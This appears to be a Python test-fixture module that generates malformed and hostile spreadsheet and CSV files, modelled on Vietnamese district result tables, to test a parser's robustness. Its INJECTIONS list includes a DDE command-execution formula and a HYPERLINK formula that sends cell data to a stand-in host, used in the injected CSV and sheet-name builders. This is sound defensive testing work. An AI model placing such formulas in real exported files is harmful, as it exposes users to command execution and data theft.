"""A corpus of hostile and broken inputs, written here the way offices and attackers make
them: result tables with odd line endings, encodings, invisible characters, signs, error
cells, far-away cells, hidden sheets and merged headers; formulas where text should be;
surveys with personal data in the place columns; a 250-byte file name. Each builder writes
into a folder and returns the path; :data:`TABLES` lists the table builders by name.

Nothing here is a real district's figure: the tables are the clean template of
:func:`conftest.clean_cells` with one thing broken.
"""

from __future__ import annotations

import re
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path

from conftest import document
from openpyxl import Workbook, load_workbook

from bakhong.synth.template import Document, Layout, write

UNIT = "UBND huyện Bá Thước"
INJECTIONS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?d="&A1,"Bấm")',
              "+SUM(1+1)", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _csv_text(tmp: Path, doc: Document | None = None, layout: Layout | None = None) -> str:
    path = write(tmp / "_template.csv", doc or document(), layout or Layout(csv_bom=False))
    text = path.read_text(encoding="utf-8")
    path.unlink()
    return text


def cp1258(text: str) -> bytes:
    """Text as Windows-1258 writes it: letters the code page has (â, ơ, đ…) precomposed,
    the tone marks as combining characters after them."""
    out = bytearray()
    for ch in text:
        try:
            out += ch.encode("cp1258")
            continue
        except UnicodeEncodeError:
            pass
        base, *marks = unicodedata.normalize("NFD", ch)
        for kept in [*marks, ""]:     # ô + combining dot below, ư + combining hook…
            rest = [m for m in marks if m != kept]
            try:
                out += (unicodedata.normalize("NFC", base + kept).encode("cp1258")
                        + "".join(rest).encode("cp1258"))
                break
            except UnicodeEncodeError:
                continue
        else:
            out += b"?"
    return bytes(out)


def mixed_line_endings(folder: Path) -> Path:
    """CRLF, LF and bare CR in one file, as a file pasted together on three machines."""
    lines = _csv_text(folder).splitlines()
    ends = ["\r\n", "\n", "\r"]
    text = "".join(line + ends[i % 3] for i, line in enumerate(lines))
    path = folder / "386-ba-thuoc-xuong-dong-2024.csv"
    path.write_bytes(text.encode("utf-8"))
    return path


def windows_1258(folder: Path) -> Path:
    """A CSV saved by an old Vietnamese Windows in code page 1258, padded to an even length
    (the length that makes a naive reader take it for UTF-16)."""
    text = _csv_text(folder).replace("\n", "\r\n")
    data = cp1258(text)
    if len(data) % 2:
        data += b" "
    path = folder / "386-ba-thuoc-cp1258-2024.csv"
    path.write_bytes(data)
    return path


def utf16_table(folder: Path) -> Path:
    """Excel's "Unicode text": UTF-16 with a BOM, tab-separated."""
    text = _csv_text(folder, layout=Layout(csv_bom=False, csv_delimiter="\t"))
    path = folder / "386-ba-thuoc-utf16-2024.csv"
    path.write_bytes(text.encode("utf-16"))
    return path


def invisible_characters(folder: Path) -> Path:
    """A zero-width space inside 45,75%, a no-break space and a right-to-left mark."""
    doc = document(TC07={"after": "4\u200b5,75%"}, TC08={"after": "8\u00a07,5\u00a0%"},
                   TC09={"after": "\u200f92,25%"}, TC10={"after": "9\ufeff3%"})
    path = folder / "386-ba-thuoc-vo-hinh-2024.xlsx"
    return write(path, doc)


def signed_rates(folder: Path) -> Path:
    """A minus sign written as ASCII "-" and as the Unicode minus U+2212."""
    doc = document(TC07={"after": "-12%"}, TC08={"after": "\u221245,75%"})
    return write(folder / "386-ba-thuoc-am-2024.xlsx", doc)


def _patch_sheet(path: Path, replace: Callable[[str], str]) -> None:
    """Rewrite the first worksheet's XML inside the .xlsx (what openpyxl cannot write)."""
    with zipfile.ZipFile(path) as archive:
        members = {n: archive.read(n) for n in archive.namelist()}
    name = "xl/worksheets/sheet1.xml"
    members[name] = replace(members[name].decode("utf-8")).encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)


def _after_cell(path: Path, label_start: str) -> str:
    """The A1 reference of the "Sau triển khai" cell on the row whose label has the text."""
    sheet = load_workbook(path).active
    header = next(r for r in sheet.iter_rows() if any(c.value == "Sau triển khai" for c in r))
    after = next(c for c in header if c.value == "Sau triển khai").column_letter
    for row in sheet.iter_rows(min_row=header[0].row + 1):
        if any(isinstance(c.value, str) and label_start in c.value for c in row):
            return f"{after}{row[0].row}"
    raise LookupError(label_start)


def error_cells(folder: Path) -> Path:
    """#DIV/0! and #REF! cached in two result cells, and one formula saved with no value
    (what a file written by a script and never opened in Excel has)."""
    path = write(folder / "386-ba-thuoc-loi-excel-2024.xlsx", document())
    wb = load_workbook(path)
    sheet = wb.active
    labels = [c.value for c in sheet["B"] if isinstance(c.value, str)]
    targets = [label for label in labels if label and label[0].isalpha()][3:6]
    refs = [_after_cell(path, label[:25]) for label in targets]
    for ref in refs:
        sheet[ref] = None
    wb.save(path)

    def patch(xml: str) -> str:
        for ref, body in zip(refs, ['t="e"><f>1/0</f><v>#DIV/0!</v>',
                                    't="e"><f>#REF!/2</f><v>#REF!</v>',
                                    '><f>SUM(C10:C12)</f>'], strict=True):
            xml = re.sub(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', f'<c r="{ref}" {body}</c>', xml,
                         count=1, flags=re.S)
            if f'r="{ref}"' not in xml:
                row = int(re.sub(r"\D", "", ref))
                xml = re.sub(rf'(<row r="{row}"[^>]*>)', rf'\1<c r="{ref}" {body}</c>', xml,
                             count=1)
        return xml

    _patch_sheet(path, patch)
    return path


def far_cell(folder: Path, ref: str = "XFD1048576", how: str = "typed") -> Path:
    """The sheet reaching its very last cell: one character typed there (``typed``), only
    a format given to it (``styled``), a sheet beside the table's holding it
    (``other_sheet``), or the sheet's stated dimension claiming it (``dimension``)."""
    from openpyxl.styles import Font

    path = write(folder / f"386-ba-thuoc-o-xa-{how}-{ref.lower()}-2024.xlsx", document())
    wb = load_workbook(path)
    if how == "typed":
        wb.active[ref] = "x"
    elif how == "styled":
        wb.active[ref].font = Font(bold=True)
    elif how == "other_sheet":
        wb.create_sheet("Phu luc")[ref] = "y"
    wb.save(path)
    if how == "dimension":
        _patch_sheet(path, lambda xml: re.sub(r'<dimension ref="[^"]*"/>',
                                              f'<dimension ref="A1:{ref}"/>', xml))
    return path


def hidden_sheet_first(folder: Path, state: str = "hidden") -> Path:
    """A hidden (or "very hidden") sheet holding an old draft comes before the visible one."""
    path = write(folder / f"386-ba-thuoc-an-{state}-2024.xlsx", document(TC07={"after": "92%"}))
    draft = write(folder / "_draft.xlsx", document(TC07={"after": "11%"}))
    wb, old = load_workbook(path), load_workbook(draft).active
    hidden = wb.create_sheet("Nhap cu", 0)
    for row in old.iter_rows(values_only=True):
        hidden.append(row)
    hidden.sheet_state = state
    wb.active = 1
    wb.save(path)
    draft.unlink()
    return path


def only_hidden_table(folder: Path) -> Path:
    """The table only on a hidden sheet; the visible sheet holds a note."""
    path = write(folder / "386-ba-thuoc-chi-an-2024.xlsx", document(TC07={"after": "91%"}))
    wb = load_workbook(path)
    wb.active.sheet_state = "hidden"
    note = wb.create_sheet("Ghi chu")
    note["A1"] = "Số liệu ở trang bên"
    wb.active = 1
    wb.save(path)
    return path


def date_in_rate(folder: Path, as_text: bool = False) -> Path:
    """A rate cell Excel turned into a date (20/4 typed for 20,4), or a date typed as text."""
    import datetime

    path = write(folder / f"386-ba-thuoc-ngay{'-chu' if as_text else ''}-2024.xlsx",
                 document())
    wb = load_workbook(path)
    ref = _after_cell(path, "thanh toán tại ngân hàng")  # TC07
    if as_text:
        wb.active[ref] = "20/4/2024"
    else:
        wb.active[ref] = datetime.datetime(2024, 4, 20)
        wb.active[ref].number_format = "dd/mm/yyyy"
    wb.save(path)
    return path


def merged_result_header(folder: Path, header: str = "Kết quả (Trước / Sau triển khai)",
                         swapped: bool = False) -> Path:
    """One header naming both result columns merged across them, with no second header row;
    ``swapped``: the "after" column comes first, as the header says."""
    columns = ("stt", "label", "target", "after", "before", "evidence") if swapped else \
        ("stt", "label", "target", "before", "after", "evidence")
    path = write(folder / f"386-ba-thuoc-gop{'-dao' if swapped else ''}-2024.xlsx",
                 document(), Layout(columns=columns, two_row_header=False))
    header_text = header
    wb = load_workbook(path)
    sheet = wb.active
    header = next(r for r in sheet.iter_rows() if any(c.value == "Sau triển khai" for c in r))
    first, second = sorted((c for c in header if c.value in ("Trước triển khai",
                                                            "Sau triển khai")),
                           key=lambda c: c.column)
    first.value, second.value = header_text, None
    sheet.merge_cells(f"{first.coordinate}:{second.coordinate}")
    wb.save(path)
    return path


def long_sheet(folder: Path, rows: int = 100_000) -> Path:
    """The table, then 100.000 rows of a pasted list below it."""
    return write(folder / "386-ba-thuoc-dai-2024.xlsx", document(), Layout(pasted_rows=rows))


def injected_csv(folder: Path) -> Path:
    """Text cells beginning with = + - @ tab or CR: labels, evidence, an unreadable figure."""
    doc = document(TC07={"after": INJECTIONS[0], "evidence": INJECTIONS[1]},
                   TC08={"evidence": INJECTIONS[2]}, TC09={"evidence": INJECTIONS[4]},
                   TC10={"after": INJECTIONS[3] + "x"})
    return write(folder / "386-ba-thuoc-cong-thuc-2024.csv", doc)


def injected_sheet_name(folder: Path) -> Path:
    """A workbook whose sheet is named like a formula."""
    path = write(folder / "386-ba-thuoc-ten-sheet-2024.xlsx",
                 document(TC07={"after": "120%"}), Layout(sheet="=1+2 Bao cao"))
    return path


#: phone and CCCD numbers as an office types them into a result table (made up, in the
#: shapes real ones have)
PERSONAL = ["0912 345 678", "038123456789", "+84 987 654 321", "38123456789"]


def personal_in_table(folder: Path) -> Path:
    """Phone and CCCD numbers typed into a result cell, the evidence column and a label."""
    doc = document(TC07={"after": f"liên hệ {PERSONAL[0]}"},
                   TC08={"evidence": f"Cán bộ phụ trách: {PERSONAL[1]}, ĐT {PERSONAL[2]}"},
                   TC09={"after": float(PERSONAL[3])})
    return write(folder / "386-ba-thuoc-ca-nhan-2024.xlsx", doc)


def long_name(folder: Path) -> Path:
    """A file name of 250 bytes (Vietnamese letters take two or three bytes each)."""
    stem = "386-ba-thuoc-" + "báo-cáo-kết-quả-" * 40
    while len((stem + "2024.csv").encode()) > 250:
        stem = stem[:-1]
    return write(folder / f"{stem}2024.csv", document(TC07={"after": "120%"}))


def not_a_workbook(folder: Path) -> Path:
    """A .xlsx that is an HTML page saved under the wrong name, and a truncated zip."""
    (folder / "386-ba-thuoc-html-2024.xlsx").write_text("<html><body>=1+1</body></html>")
    good = write(folder / "_whole.xlsx", document())
    data = good.read_bytes()
    good.unlink()
    path = folder / "386-ba-thuoc-cat-2024.xlsx"
    path.write_bytes(data[: len(data) // 2])
    return path


TABLES: dict[str, Callable[[Path], Path]] = {
    "mixed_line_endings": mixed_line_endings, "windows_1258": windows_1258,
    "utf16_table": utf16_table, "invisible_characters": invisible_characters,
    "signed_rates": signed_rates, "error_cells": error_cells, "far_cell": far_cell,
    "hidden_sheet_first": hidden_sheet_first, "only_hidden_table": only_hidden_table,
    "date_in_rate": date_in_rate,
    "merged_result_header": merged_result_header, "injected_csv": injected_csv,
    "injected_sheet_name": injected_sheet_name, "not_a_workbook": not_a_workbook,
    "personal_in_table": personal_in_table,
}


def workbook(path: Path, rows: list[list[object]], title: str = "Phieu") -> Path:
    wb = Workbook()
    wb.active.title = title
    for row in rows:
        wb.active.append(row)
    wb.save(path)
    return path
